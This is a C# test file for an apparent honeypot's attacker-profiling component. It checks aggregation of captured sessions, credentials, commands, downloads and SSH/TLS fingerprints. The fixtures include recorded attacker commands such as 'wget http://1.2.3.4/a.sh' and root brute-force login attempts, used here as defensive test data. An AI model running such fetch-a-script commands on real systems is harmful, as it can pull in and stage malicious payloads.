using Decnet.Engine.Ingest;
using Decnet.Engine.Profiler;
using static Decnet.Tests.Profiler.Events;

namespace Decnet.Tests.Profiler;

public class ProfileUpdaterTests
{
    [Test]
    public async Task CountsAndTimeRangeWithOutOfOrderEvents()
    {
        var p = ProfileUpdater.Apply(null,
        [
            Ev(EventTypes.SessionConnect, 10, decky: "d2", service: "ssh"),
            Ev(EventTypes.SessionClosed, 5, decky: "d1", service: "ssh"),
            Ev(EventTypes.HttpRequest, 30, session: null, decky: "d2", service: "http", ua: "curl/8"),
        ]);
        await Assert.That(p.Ip).IsEqualTo("203.0.113.7");
        await Assert.That(p.FirstSeen).IsEqualTo(T0.AddSeconds(5));
        await Assert.That(p.LastSeen).IsEqualTo(T0.AddSeconds(30));
        await Assert.That(p.EventCount).IsEqualTo(3L);
        await Assert.That(p.Sensors).IsEqualTo(EquatableArray.Create<string>(["d2", "d1"]));
        await Assert.That(p.Services).IsEqualTo(EquatableArray.Create<string>(["ssh", "http"]));
        await Assert.That(p.UserAgents).IsEqualTo(EquatableArray.Create<ValueCount>([new("curl/8", 1)]));
    }

    [Test]
    public async Task CredentialsAreOrderedByFirstAttemptNotArrival()
    {
        var p = ProfileUpdater.Apply(null,
        [
            Ev(EventTypes.LoginFailed, 3, user: "root", password: "c"),
            Ev(EventTypes.LoginFailed, 1, user: "root", password: "a"),
            Ev(EventTypes.LoginSuccess, 2, user: "root", password: "b"),
            Ev(EventTypes.LoginFailed, 4, user: "root", password: "a"),
        ]);
        await Assert.That(p.Credentials).IsEqualTo(EquatableArray.Create<CredentialEntry>(
        [
            new("root", "a", 2, T0.AddSeconds(1)),
            new("root", "b", 1, T0.AddSeconds(2)),
            new("root", "c", 1, T0.AddSeconds(3)),
        ]));
        await Assert.That(p.SuccessfulLogins).IsEqualTo(EquatableArray.Create<CredentialEntry>([new("root", "b", 1, T0.AddSeconds(2))]));

        // A later batch with an earlier attempt of a known pair moves it forward.
        var q = ProfileUpdater.Apply(p, [Ev(EventTypes.LoginFailed, 0, user: "root", password: "c")]);
        await Assert.That(string.Join(",", q.Credentials.Select(c => c.Password))).IsEqualTo("c,a,b");
        await Assert.That(q.Credentials[0]).IsEqualTo(new CredentialEntry("root", "c", 2, T0));
    }

    [Test]
    public async Task LoginWithoutPasswordKeepsNullPassword()
    {
        var p = ProfileUpdater.Apply(null, [Ev(EventTypes.LoginFailed, 1, user: "git")]);
        await Assert.That(p.Credentials[0]).IsEqualTo(new CredentialEntry("git", null, 1, T0.AddSeconds(1)));
    }

    [Test]
    public async Task SessionsCountDistinctIdsAndIdlessConnects()
    {
        var p = ProfileUpdater.Apply(null,
        [
            Ev(EventTypes.SessionConnect, 1, session: "a"),
            Ev(EventTypes.LoginFailed, 2, session: "a", user: "x", password: "y"),
            Ev(EventTypes.SessionConnect, 3, session: "b"),
            Ev(EventTypes.SessionClosed, 4, session: "a"),
            Ev(EventTypes.SessionConnect, 5, session: null),
            Ev(EventTypes.HttpRequest, 6, session: null),
        ]);
        await Assert.That(p.SessionCount).IsEqualTo(3L);
        await Assert.That(p.RecentSessions).IsEqualTo(EquatableArray.Create<string>(["b", "a"]));
    }

    [Test]
    public async Task SessionWindowForgetsTheLeastRecentlySeen()
    {
        var events = new List<DecnetEvent>();
        for (var i = 0; i <= ProfileLimits.RecentSessions; i++) events.Add(Ev(EventTypes.SessionConnect, i, session: "s" + i));
        var p = ProfileUpdater.Apply(null, events);
        await Assert.That(p.SessionCount).IsEqualTo((long)ProfileLimits.RecentSessions + 1);
        await Assert.That(p.RecentSessions.Count).IsEqualTo(ProfileLimits.RecentSessions);
        await Assert.That(p.RecentSessions.Contains("s0")).IsFalse();

        // s1 is still remembered; s0 fell out of the window so it counts again.
        var q = ProfileUpdater.Apply(p, [Ev(EventTypes.SessionClosed, 999, session: "s1"), Ev(EventTypes.SessionClosed, 999, session: "s0")]);
        await Assert.That(q.SessionCount).IsEqualTo(p.SessionCount + 1);
        await Assert.That(q.RecentSessions[^1]).IsEqualTo("s0");
        await Assert.That(q.RecentSessions[^2]).IsEqualTo("s1");
    }

    [Test]
    public async Task FullListsCountNewcomersAsTruncatedAndKeepCountingKnownValues()
    {
        var events = new List<DecnetEvent>();
        for (var i = 0; i < ProfileLimits.UserAgents + 5; i++) events.Add(Ev(EventTypes.HttpRequest, i, ua: "agent-" + i));
        events.Add(Ev(EventTypes.HttpRequest, 9999, ua: "agent-0"));
        var p = ProfileUpdater.Apply(null, events);
        await Assert.That(p.UserAgents.Count).IsEqualTo(ProfileLimits.UserAgents);
        await Assert.That(p.Truncated.UserAgents).IsEqualTo(5L);
        await Assert.That(p.UserAgents[0]).IsEqualTo(new ValueCount("agent-0", 2));

        var creds = new List<DecnetEvent>();
        for (var i = 0; i < ProfileLimits.Credentials + 3; i++) creds.Add(Ev(EventTypes.LoginFailed, i, user: "root", password: "pw" + i));
        var c = ProfileUpdater.Apply(null, creds);
        await Assert.That(c.Credentials.Count).IsEqualTo(ProfileLimits.Credentials);
        await Assert.That(c.Truncated.Credentials).IsEqualTo(3L);
        await Assert.That(c.Truncated.Total).IsEqualTo(3L);
    }

    [Test]
    public async Task CommandsGroupByNormalisedFormAndKeepFirstExample()
    {
        var p = ProfileUpdater.Apply(null,
        [
            Ev(EventTypes.CommandInput, 1, command: "wget http://1.2.3.4/a.sh"),
            Ev(EventTypes.CommandInput, 2, command: "wget   http://5.6.7.8/b.sh"),
            Ev(EventTypes.CommandInput, 3, command: "uname -a"),
            Ev(EventTypes.CommandInput, 4, command: "   "),
        ]);
        await Assert.That(p.Commands).IsEqualTo(EquatableArray.Create<CommandEntry>(
        [
            new("wget <url>", "wget http://1.2.3.4/a.sh", 2),
            new("uname -a", "uname -a", 1),
        ]));
    }

    [Test]
    public async Task DownloadsTargetsAndFingerprints()
    {
        var p = ProfileUpdater.Apply(null,
        [
            Ev(EventTypes.FileDownload, 1, url: "http://x/a", sha: "ABCDEF"),
            Ev(EventTypes.FileDownload, 2, url: "http://x/a", sha: "abcdef"),
            Ev(EventTypes.FileDownload, 3, url: "http://x/b"),
            Ev(EventTypes.HttpRequest, 4, url: "http://x/not-a-download"),
            Ev(EventTypes.DirectTcpip, 5, host: "ya.ru", port: 443),
            Ev(EventTypes.DirectTcpip, 6, host: "2001:db8::1", port: 80),
            Ev(EventTypes.DirectTcpip, 7, host: "ya.ru", port: 443),
            Ev(EventTypes.ClientVersion, 8, ssh: "SSH-2.0-Go", hassh: "h1"),
            Ev(EventTypes.ClientKex, 9, hassh: "h1"),
            Ev(EventTypes.HttpRequest, 10, ja3: "j1"),
        ]);
        await Assert.That(p.Downloads).IsEqualTo(EquatableArray.Create<DownloadEntry>([new("http://x/a", "abcdef", 2), new("http://x/b", null, 1)]));
        await Assert.That(p.DirectTcpipTargets).IsEqualTo(EquatableArray.Create<ValueCount>([new("ya.ru:443", 2), new("[2001:db8::1]:80", 1)]));
        await Assert.That(p.SshVersions).IsEqualTo(EquatableArray.Create<ValueCount>([new("SSH-2.0-Go", 1)]));
        await Assert.That(p.Hassh).IsEqualTo(EquatableArray.Create<ValueCount>([new("h1", 2)]));
        await Assert.That(p.Ja3).IsEqualTo(EquatableArray.Create<ValueCount>([new("j1", 1)]));
    }

    [Test]
    public async Task AttackerTextIsCappedAndLoneSurrogatesReplaced()
    {
        var p = ProfileUpdater.Apply(null,
        [
            Ev(EventTypes.LoginFailed, 1, user: "a\uD800b", password: new string('x', ProfileLimits.ValueLength + 50)),
            Ev(EventTypes.CommandInput, 2, command: "echo " + new string('y', ProfileLimits.CommandLength)),
        ]);
        await Assert.That(p.Credentials[0].Username).IsEqualTo("a\uFFFDb");
        await Assert.That(p.Credentials[0].Password!.Length).IsEqualTo(ProfileLimits.ValueLength);
        await Assert.That(p.Commands[0].Example.Length).IsEqualTo(ProfileLimits.CommandLength);
    }

    [Test]
    public async Task UntouchedListsAreReusedAndEmptyBatchReturnsTheProfile()
    {
        var p = ProfileUpdater.Apply(null, [Ev(EventTypes.LoginFailed, 1, user: "u", password: "p", decky: "d")]);
        var q = ProfileUpdater.Apply(p, [Ev(EventTypes.SessionClosed, 2)]);
        await Assert.That(q.Credentials).IsEqualTo(p.Credentials);
        await Assert.That(q.EventCount).IsEqualTo(2L);
        await Assert.That(ReferenceEquals(ProfileUpdater.Apply(q, []), q)).IsTrue();
    }

    [Test]
    public async Task EventsFromAnotherIpAreRefused()
    {
        await Assert.That(() => ProfileUpdater.Apply(null, [Ev(EventTypes.SessionConnect, 1), Ev(EventTypes.SessionConnect, 2, ip: "198.51.100.1")]))
            .Throws<ArgumentException>();
        await Assert.That(() => ProfileUpdater.Apply(null, [])).Throws<ArgumentException>();
    }

    [Test]
    public async Task TimestampsAreKeptInUtc()
    {
        var e = Ev(EventTypes.SessionConnect, 0) with { Timestamp = new DateTimeOffset(2026, 5, 1, 14, 0, 0, TimeSpan.FromHours(2)) };
        var p = ProfileUpdater.Apply(null, [e]);
        await Assert.That(p.FirstSeen.Offset).IsEqualTo(TimeSpan.Zero);
        await Assert.That(p.FirstSeen).IsEqualTo(T0);
    }
}
